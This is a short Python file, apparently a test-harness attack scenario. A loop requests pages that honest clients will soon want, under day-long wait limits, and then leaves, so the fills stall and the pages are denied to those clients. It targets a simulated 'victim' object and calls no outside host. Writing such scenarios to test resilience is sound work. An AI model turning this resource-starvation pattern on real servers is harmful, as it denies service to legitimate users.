"""Clients begin fills that only wait, by limits of a day, and leave; honest clients want some of these pages."""

import itertools
import time

LIMITS = [("C0-Config", "rt=0 ib=86400000 mb=86400000 ma=2")]


def attack(victim):
    for number in itertools.count():
        for protocol in ("h1", "h2c"):
            wanted = f"new-{protocol}-{number + 40}"  # by an honest client, soon
            victim.ask_and_leave(f"/fetch/good/{wanted}", LIMITS)
            victim.ask_and_leave(f"/fetch/good/pinned-{wanted}", LIMITS)
        if number == 60:
            victim.begun()
        time.sleep(0.01)
